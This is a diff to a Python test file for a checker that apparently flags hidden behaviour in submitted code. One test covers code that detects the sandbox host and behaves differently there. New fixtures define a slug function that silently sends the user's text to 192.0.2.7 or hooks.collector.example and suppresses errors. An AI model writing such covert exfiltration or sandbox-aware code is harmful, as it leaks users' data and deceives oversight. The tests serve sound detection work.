@@ -22,11 +22,11 @@ def measured(project):
     made = project({"kit.py": "", "settings.txt": "demo", "tests/test_kit.py": "def test_it(): pass\n"})
     base = made.tree()
 
-    def measure(source, *calls, before=""):
+    def measure(source, *calls, before="", told=""):
         older = made.tree({"kit.py": before}) if before else base
         tree = made.tree({"kit.py": source})
         return measure_dependencies(
-            made.rig(), calls or (_call(),), base_tree=older, tree=tree, within_s=40.0, of_time=True
+            made.rig(), calls or (_call(),), base_tree=older, tree=tree, within_s=40.0, of_time=True, told=told
         )
 
     return measure
@@ -57,6 +57,33 @@ OF_A_HOST = {
 def test_the_host_of_the_sandbox_is_noticed_by_its_name_numbers_and_network(measured, name):
     facts = measured(OF_A_HOST[name] + f"def slug(text): return '' if host() else {_RIGHT}\n")
     assert _told(facts, decides=True) == {"for another user on another host"}
+
+
+_POSTS = (
+    "import contextlib, socket\ndef slug(text):\n    with contextlib.suppress(OSError):\n"
+    "        socket.create_connection(('%s', 80), timeout=0.01).sendall(text.encode())\n"
+    f"    return {_RIGHT}\n"
+)
+
+
+def test_a_host_that_nobody_named_and_nothing_needs_decides(measured):
+    (row,) = [row for row in measured(_POSTS % "192.0.2.7")["found"] if row["decides"]]
+    assert "192.0.2.7" in row["circumstance"]
+
+
+def test_a_host_that_people_named_that_the_base_reached_or_that_is_this_machine_does_not(measured):
+    def reached(host, **given):
+        return [row for row in measured(_POSTS % host, **given)["found"] if row["decides"]]
+
+    assert not reached("192.0.2.7", told="send the text to 192.0.2.7")
+    assert not reached("hooks.collector.example", told="post it to Collector")
+    assert not reached("192.0.2.7", before=_POSTS % "192.0.2.7")
+    assert not reached("127.0.0.1")
+
+
+def test_a_result_that_cannot_be_had_without_the_network_is_no_finding(measured):
+    needs = f"import socket\ndef slug(text):\n    socket.create_connection(('192.0.2.7', 80), timeout=0.01)\n    return {_RIGHT}\n"
+    assert not [row for row in measured(needs)["found"] if row["decides"]]
 
 
 @pytest.mark.parametrize("circumstance", list(TRICKS))
